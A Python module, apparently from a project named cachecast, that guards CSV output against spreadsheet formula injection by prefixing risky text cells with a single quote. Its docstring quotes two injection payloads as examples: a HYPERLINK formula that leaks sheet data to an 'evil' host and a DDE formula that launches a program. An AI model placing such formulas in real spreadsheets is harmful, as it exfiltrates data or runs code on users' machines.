"""CSV cells a spreadsheet will not run as formulas.

Custom ids, treatment names and error messages come from outside (a results file, a
server). A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets as a
formula: `=HYPERLINK("http://evil/?"&A1, "click")` leaks the sheet, `=cmd|' /C calc'!A0`
runs a program on old Excel. OWASP's advice (CSV Injection) is to prefix such cells with a
single quote, which the spreadsheet shows as text; cachecast does that for every text cell
of every CSV it writes (audit, ledger, reconcile). Numbers are written as numbers: -0.5 in
a numeric column is a value, not a formula. The cost: a text cell that starts with one of
those characters reads with a leading `'` in the file.
"""
from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading single quote when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: dict[str, Any]) -> dict[str, Any]:
    """A row for csv.DictWriter, every text cell made safe (the header too: keys are text)."""
    return {safe_cell(k): safe_cell(v) for k, v in row.items()}


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell (and column name) made safe; number,
    date and boolean columns are left as they are."""
    import pandas as pd

    out = frame.copy()
    out.columns = [safe_cell(str(c)) if isinstance(c, str) else c for c in out.columns]
    for column in out.columns:
        series = out[column]
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(safe_cell).astype(object)
    return out
